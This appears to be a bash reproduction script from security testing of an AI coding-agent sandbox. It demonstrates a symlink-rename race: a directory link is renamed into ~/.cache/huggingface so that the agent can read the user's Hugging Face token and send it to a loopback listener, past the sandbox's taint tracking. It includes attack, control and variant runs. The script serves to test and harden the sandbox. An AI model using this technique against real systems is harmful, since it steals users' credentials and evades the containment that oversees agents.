#!/bin/bash
# A symlink to a directory made under a name that names nothing (~/.cache/tmplink), then renamed to
# ~/.cache/huggingface: the rename decides the names it moves (the link, its new name),
# and learns what the link names below only after, without deciding it. The agent's
# held ws/hf/token then reads the token the user's tool writes, untainted.
# Usage: repro.sh [POLICY.bin]   (default: the embedded std::profiles::coding_agent)
set -u; . "$(dirname "$0")/../common.sh"
IP=127.78.8.3
D=$R8/dir-link-renamed-into-place; W=$D/ws H=$D/home
POL=${1:+--policy $1}
outside() { # the user's tool: `huggingface-cli login` writing the token (no mkdir)
  for i in $(seq 600); do [ -e $W/ready ] && break; sleep 0.05; done; sleep 0.3
  printf "hf_USER-TOKEN-$1\n" > $H/.cache/huggingface/token && echo "user's token written through ~/.cache/huggingface -> $(readlink $H/.cache/huggingface)"; }
try() { # try NAME MODE CFG
  rm -rf $W $H; mkdir -p $W/hf $H/.cache; gcc -O1 -o $W/namelink $D/namelink.c; echo agent-placeholder > $W/hf/token
  listen $IP $D/out-$1.txt; outside $1 & CPID=$!
  local env="" mode=isolated; case $3 in kopens) env=CLAWLESS_KERNEL_OPENS=1;; mediated) mode=mediated;; esac
  (cd $W && env -u XDG_CACHE_HOME HOME=$H PATH=/usr/bin:/bin $env timeout 60 $CLAW exec $POL --mode $mode --workspace $W -- ./namelink $IP $W/hf $H/.cache/huggingface 2 $2) 2>&1 | grep -v "watcher armed"
  wait $CPID; verdict $D/out-$1.txt hf_USER-TOKEN; }
for cfg in ${CFGS:-mediated isolated kopens}; do
  echo "==== $cfg: attack (symlink elsewhere, rename into place)"; try rename-$cfg rename-here $cfg
  echo "==== $cfg: control (the symlink made in place)"; try plain-$cfg plain $cfg
done
for how in ${HOWS:-rename-link rename-exchange}; do
  echo "==== kopens: variant $how"; try $how-kopens $how kopens
done
